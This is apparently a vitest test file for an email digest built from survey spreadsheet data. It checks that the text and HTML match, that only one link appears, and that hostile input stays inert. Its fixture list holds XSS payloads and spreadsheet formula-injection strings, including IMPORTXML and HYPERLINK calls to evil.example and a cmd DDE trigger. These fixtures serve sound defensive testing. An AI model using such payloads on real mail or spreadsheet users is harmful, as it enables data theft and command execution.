import { describe, expect, test } from 'vitest';
import { describeDigest, digestSubject } from '../../../core/digest/describe.ts';
import { mailOf } from '../../../core/digest/mail.ts';
import type { Table } from '../../../core/responses/schema.ts';
import type { Language } from '../../../core/text/schema.ts';
import { digestOf, someCase } from './survey.ts';

const address = 'https://docs.google.com/spreadsheets/d/abc/edit';
const mailFor = (options: Parameters<typeof digestOf>[0] = {}, language: Language = 'en') => {
  const digest = digestOf({ ...options, language });
  return mailOf(describeDigest(digest), { subject: digestSubject(digest), address, language });
};

test('text and HTML say the same', () => {
  const { text, html } = mailFor({ cases: [someCase()] });
  const plain = html
    .replace(/<[^>]*>/g, '\n')
    .replace(/&amp;/g, '&')
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '' && !line.startsWith('Open the'));
  for (const line of plain) expect(text).toContain(line);
  expect(plain.length).toBeGreaterThan(40);
  expect(text).toContain('RoHS compliance | 85.0 | ');
  expect(text).toContain(`Open the spreadsheet: ${address}`);
});

test('the only link is the spreadsheet’s, and there is no image and no script', () => {
  const { html } = mailFor();
  expect(html.match(/href="[^"]*"/g)).toEqual([`href="${address}"`]);
  expect(html).not.toMatch(/<(img|script|style|link)/);
});

// The OWASP list of formula triggers and HTML that a mail program would run.
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><a href="https://evil.example">x</a>',
  "' onmouseover='alert(1)",
  '&lt;b&gt;',
  '=IMPORTXML("https://evil.example","//a")',
  '=HYPERLINK("https://evil.example","x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '{address}',
];

describe('hostile text', () => {
  test.each(hostile)('%j in a header, a source, a title, an owner and a customer stays text', (bad) => {
    const header = ['Timestamp', `${bad} (1-5)`, 'Service (1-5)'];
    const rows: Table = [header, ...[1, 2, 3, 4, 5].map((day) => [`2026-10-0${day}T09:00:00`, 3, 5])];
    const cases = [someCase({ title: bad, owner: bad, customer: bad })];
    const { subject, html } = mailFor({ rows, id: 'S2', source: bad, cases });
    const tags = [...html.matchAll(/<\/?([^\s>]*)/g)].map(([, tag]) => tag);
    const ours = ['h2', 'h3', 'p', 'table', 'tr', 'th', 'td', 'a'];
    expect(tags.filter((tag) => !ours.includes(tag ?? ''))).toEqual([]);
    expect(html.match(/<a /g)).toHaveLength(1);
    expect(html.match(/="[^"]*"/g)?.every((one) => /^="(https:\/\/docs\.google\.com|border)/.test(one))).toBe(true);
    expect(subject).not.toMatch(/[\r\n\t]/);
  });

  test('is counted', () => {
    console.log(`faults: hostile text in mails: ${hostile.length} strings in 5 places, 0 live`);
    expect(hostile).toHaveLength(12);
  });
});

test('a subject has a limit', () => {
  expect(mailFor({ source: 'x'.repeat(400) }).subject.length).toBe(200);
});

test.each(['zh-CN', 'zh-TW'] as const)('in %s nothing is left in English', (language) => {
  const { text, subject } = mailFor({ asked: 40, cases: [someCase({ title: '案', owner: '部' })] }, language);
  const words = `${subject}\n${text}`
    .replace(/https:\S+|Form Responses 1|weighted-procedure|RoHS|H2/g, '')
    .match(/[A-Za-z]{2,}/g);
  expect(words).toBeNull();
});
